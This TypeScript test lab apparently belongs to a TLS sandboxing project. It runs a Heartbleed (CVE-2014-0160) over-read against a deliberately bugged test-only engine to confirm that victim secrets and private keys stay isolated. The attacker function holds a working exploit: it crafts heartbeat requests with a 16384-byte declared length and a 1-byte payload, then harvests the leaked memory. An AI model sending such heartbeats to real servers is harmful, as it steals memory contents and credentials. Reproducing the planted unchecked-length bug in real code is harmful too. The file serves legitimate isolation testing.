// The Heartbleed lab (issue 5, part 5): what a Heartbleed-class bug in tlsbox's engine can reach.
//
// The engine is the TEST-ONLY `lab-heartbleed` variant (wasm/tls/lab.ts, `node build.mjs --lab`):
// it answers RFC 6520 heartbeat requests echoing payload_length bytes without checking them
// against the record — the over-read of CVE-2014-0160. A TCP echo harness runs sessions over it;
// two victims (Node's TLS client) connect and send known secrets and stay connected; then an
// attacker (a hand-made TLS 1.3 client: the RFC 8448 handshake, replayed through its own
// sandbox, so this code knows its traffic keys) sends heartbeats with payload_length 16384 and a
// 1-byte payload, and collects what comes back.
//
// What leaks is the attacker's own sandbox: its own plaintext, its buffers, its engine state.
// What must not: the victims' secrets (in other sandboxes) and private-key bytes (signing happens
// in the host, outside every sandbox; the key server in production).
//
// Extend it: plant your own bug in wasm/tls/lab.ts (a new LAB_… switch and a hook in conn.ts),
// add a variant to LAB_VARIANTS in build.mjs, and point a copy of this lab at it.
import { createHmac, randomBytes, type KeyObject } from "node:crypto";
import { connect as netConnect, type Socket } from "node:net";
import { connect as tlsConnect, type TLSSocket } from "node:tls";
import { CipherSuite } from "../../wasm/abi";
import { LAB_ENGINES } from "../isolation/lab";
import { choiceFor, makeCert, startEchoServer, type Harness, type TestCert } from "../helpers/tls";
import {
  RFC, RFC_CLIENT_HELLO, RFC_PRIVATE_KEY, RFC_POLICY, expandLabel, openRecord, rfcChoice, sealRecord, sha256, trafficKeys, type Keys,
} from "../helpers/tls_rfc8448";
import { unhex } from "../helpers/repo";
import { createTlsSandboxFactory } from "../../src/tls/session";
import type { SandboxFactory } from "../../src/sandbox/loader";

export interface LabResult {
  /** Every byte the heartbeat responses carried beyond the attacker's 1-byte payloads. */
  leaked: Buffer;
  heartbeats: number;
  /** Secrets the victims sent (and still hold in their sandboxes while the attack runs). */
  victimSecrets: string[];
  /** What the attacker itself sent before the heartbeats (expected in the leak: its own memory). */
  attackerPlaintext: string;
  /** The private keys' secret values (hex), by name: none may appear in the leak. */
  keySecrets: Array<{ name: string; hex: string }>;
  victimEchoesOk: boolean;
}

/** The secret values of a private key (JWK d, p, q, dp, dq, qi) as bytes in hex. */
function secretValues(name: string, key: KeyObject): Array<{ name: string; hex: string }> {
  const jwk = key.export({ format: "jwk" }) as Record<string, string>;
  return ["d", "p", "q", "dp", "dq", "qi"].filter((f) => typeof jwk[f] === "string")
    .map((f) => ({ name: `${name}.${f}`, hex: Buffer.from(jwk[f], "base64url").toString("hex") }));
}

/** A factory for the harness: the victims' instances draw real randomness, the attacker's the RFC tape. */
async function labFactories(): Promise<{ normal: SandboxFactory; rfc: SandboxFactory }> {
  const draws = [unhex(RFC.trace[5].values.ServerHello).subarray(6, 38), unhex(RFC.server.x25519PrivateKey)];
  const rfc = await createTlsSandboxFactory(LAB_ENGINES.heartbleed, {
    random: (into) => {
      const next = draws.shift();
      if (next === undefined || next.length !== into.length) throw new Error(`unexpected draw of ${into.length} bytes`);
      into.set(next);
    },
  });
  return { normal: await createTlsSandboxFactory(LAB_ENGINES.heartbleed), rfc };
}

/** A victim: connects, sends its secret, reads the echo, and stays connected until released. */
function victim(port: number, secret: string): Promise<{ socket: TLSSocket; echoed: Promise<boolean> }> {
  return new Promise((resolve, reject) => {
    const socket = tlsConnect({ host: "127.0.0.1", port, servername: "victim.example", minVersion: "TLSv1.3", rejectUnauthorized: false }, () => {
      const chunks: Buffer[] = [];
      const echoed = new Promise<boolean>((done) => {
        socket.on("data", (d: Buffer) => {
          chunks.push(d);
          if (Buffer.concat(chunks).toString("latin1").includes(secret)) done(true);
        });
        socket.on("close", () => done(Buffer.concat(chunks).toString("latin1").includes(secret)));
      });
      socket.write(secret);
      resolve({ socket, echoed });
    });
    socket.on("error", reject);
  });
}

/** Reads whole TLS records from a raw socket. */
class RecordReader {
  private buf = Buffer.alloc(0);
  private waiters: Array<() => void> = [];
  closed = false;
  constructor(socket: Socket) {
    socket.on("data", (d: Buffer) => { this.buf = Buffer.concat([this.buf, d]); this.wake(); });
    socket.on("close", () => { this.closed = true; this.wake(); });
    socket.on("error", () => {});
  }
  private wake(): void {
    for (const w of this.waiters.splice(0)) w();
  }
  async next(): Promise<Buffer | null> {
    for (;;) {
      if (this.buf.length >= 5) {
        const len = 5 + ((this.buf[3] << 8) | this.buf[4]);
        if (this.buf.length >= len) {
          const rec = this.buf.subarray(0, len);
          this.buf = this.buf.subarray(len);
          return rec;
        }
      }
      if (this.closed) return null;
      await new Promise<void>((r) => this.waiters.push(r));
    }
  }
}

/** The attacker: the RFC 8448 handshake over TCP, its own plaintext, then heartbeats. */
async function attacker(port: number, ownPlaintext: string, heartbeats: number): Promise<Buffer> {
  const socket = netConnect(port, "127.0.0.1");
  await new Promise<void>((r, j) => { socket.once("connect", r); socket.once("error", j); });
  const reader = new RecordReader(socket);
  socket.write(Buffer.concat([Buffer.from([22, 3, 1, RFC_CLIENT_HELLO.length >> 8, RFC_CLIENT_HELLO.length & 255]), RFC_CLIENT_HELLO]));
  const sh = await reader.next();
  if (sh === null || sh[0] !== 22) throw new Error("no ServerHello");
  const thSh = sha256(RFC_CLIENT_HELLO, sh.subarray(5));
  const hs = unhex(RFC.keySchedule.handshakeSecret.secret);
  const clientHsSecret = expandLabel(hs, "c hs traffic", thSh, 32);
  const serverHs = trafficKeys(expandLabel(hs, "s hs traffic", thSh, 32));
  // The encrypted flight, up to the server's Finished (handshake type 20).
  const flight: Buffer[] = [];
  for (let seq = 0; ; seq++) {
    const rec = await reader.next();
    if (rec === null) throw new Error("server closed during the handshake");
    if (rec[0] === 20) { seq--; continue; } // compatibility ChangeCipherSpec
    const [type, content] = openRecord(serverHs, seq, rec);
    if (type !== 22) throw new Error(`flight record of inner type ${type}`);
    flight.push(content);
    const all = Buffer.concat(flight);
    // Walk the messages: done when the last complete one is Finished.
    let p = 0;
    let lastType = -1;
    while (p + 4 <= all.length) {
      const mlen = (all[p + 1] << 16) | (all[p + 2] << 8) | all[p + 3];
      if (p + 4 + mlen > all.length) break;
      lastType = all[p];
      p += 4 + mlen;
    }
    if (lastType === 20 && p === all.length) break;
  }
  const thFin = sha256(RFC_CLIENT_HELLO, sh.subarray(5), Buffer.concat(flight));
  const verify = createHmac("sha256", expandLabel(clientHsSecret, "finished", new Uint8Array(0), 32)).update(thFin).digest();
  socket.write(sealRecord(trafficKeys(clientHsSecret), 0, 22, Buffer.concat([Buffer.from("14000020", "hex"), verify])));
  const master = unhex(RFC.keySchedule.masterSecret.secret);
  const clientAp: Keys = trafficKeys(expandLabel(master, "c ap traffic", thFin, 32));
  const serverAp: Keys = trafficKeys(expandLabel(master, "s ap traffic", thFin, 32));
  let cseq = 0;
  let sseq = 0;
  // Its own plaintext first (echoed back), so the sandbox has something of the attacker's to leak.
  socket.write(sealRecord(clientAp, cseq++, 23, Buffer.from(ownPlaintext)));
  const leaked: Buffer[] = [];
  let echoed = 0;
  // Reads the next record the server protected; null if the server closed.
  const nextRecord = async (): Promise<[number, Buffer] | null> => {
    const rec = await reader.next();
    return rec === null ? null : openRecord(serverAp, sseq++, rec);
  };
  while (echoed < ownPlaintext.length) {
    const r = await nextRecord();
    if (r === null) throw new Error("server closed before echoing");
    if (r[0] === 23) echoed += r[1].length;
  }
  // One heartbeat at a time (each answer fills most of the engine's send buffer).
  for (let i = 0; i < heartbeats; i++) {
    // HeartbeatMessage: heartbeat_request, payload_length 16384, a 1-byte payload, 16 bytes padding.
    const hb = Buffer.concat([Buffer.from([1, 0x40, 0x00, 0x41]), Buffer.alloc(16)]);
    socket.write(sealRecord(clientAp, cseq++, 24, hb));
    for (;;) {
      const r = await nextRecord();
      if (r === null) throw new Error("server closed during the heartbeats");
      if (r[0] !== 24) continue;
      // heartbeat_response: type 2, payload_length, payload (1 byte sent; the rest is the over-read), padding.
      const len = (r[1][1] << 8) | r[1][2];
      leaked.push(r[1].subarray(3 + 1, 3 + len));
      break;
    }
  }
  socket.destroy();
  return Buffer.concat(leaked);
}

export async function runHeartbleedLab(options: { heartbeats?: number } = {}): Promise<LabResult> {
  const heartbeats = options.heartbeats ?? 4;
  const cert: TestCert = makeCert("p256");
  const { normal, rfc } = await labFactories();
  // The attacker's connection is the third: it gets the instance replaying the RFC's randomness.
  let n = 0;
  const factory = Object.create(normal) as SandboxFactory;
  factory.instantiate = () => (++n === 3 ? rfc.instantiate() : normal.instantiate());
  const policy = { ...RFC_POLICY, suites: [CipherSuite.TLS_AES_128_GCM_SHA256] };
  const harness: Harness = await startEchoServer(factory, policy, (sni) => (sni === "server" ? rfcChoice() : choiceFor(cert)));
  try {
    const tag = randomBytes(6).toString("hex");
    const victimSecrets = [`victim-1 password=hunter2-${tag}`, `victim-2 password=correct-horse-${tag}`];
    const victims = [];
    for (const s of victimSecrets) victims.push(await victim(harness.port, s));
    const victimEchoesOk = (await Promise.all(victims.map((v) => v.echoed))).every(Boolean);
    const attackerPlaintext = `attacker's own plaintext ${tag} `.repeat(64);
    const leaked = await attacker(harness.port, attackerPlaintext, heartbeats);
    for (const v of victims) v.socket.destroy();
    return {
      leaked, heartbeats, victimSecrets, attackerPlaintext, victimEchoesOk,
      keySecrets: [...secretValues("victim-cert-p256", cert.privateKey), ...secretValues("rfc8448-rsa", RFC_PRIVATE_KEY)],
    };
  } finally {
    await harness.close();
  }
}

/** What of `needles` occurs in `hay` (as latin1 text or raw bytes). */
export function findings(r: LabResult): { victimSecretsFound: string[]; keyValuesFound: string[]; ownPlaintextFound: boolean } {
  const hex = r.leaked.toString("hex");
  const text = r.leaked.toString("latin1");
  const ownMarker = r.attackerPlaintext.slice(0, 40);
  return {
    victimSecretsFound: r.victimSecrets.filter((s) => text.includes(s) || text.includes(s.split("=")[1])),
    // Any 16-byte window of a key's secret value counts as found.
    keyValuesFound: r.keySecrets.filter((k) => {
      for (let i = 0; i + 32 <= k.hex.length; i += 2) if (hex.includes(k.hex.slice(i, i + 32))) return true;
      return false;
    }).map((k) => k.name),
    ownPlaintextFound: text.includes(ownMarker),
  };
}

/** A hex/ASCII dump of `bytes` (at most `max` bytes), 16 per line. */
export function hexdump(bytes: Buffer, max = 256, offset = 0): string {
  const lines: string[] = [];
  for (let i = offset; i < Math.min(bytes.length, offset + max); i += 16) {
    const row = bytes.subarray(i, i + 16);
    const hex = [...row].map((b) => b.toString(16).padStart(2, "0")).join(" ");
    const ascii = [...row].map((b) => (b >= 32 && b < 127 ? String.fromCharCode(b) : ".")).join("");
    lines.push(`${i.toString(16).padStart(6, "0")}  ${hex.padEnd(47)}  ${ascii}`);
  }
  return lines.join("\n");
}
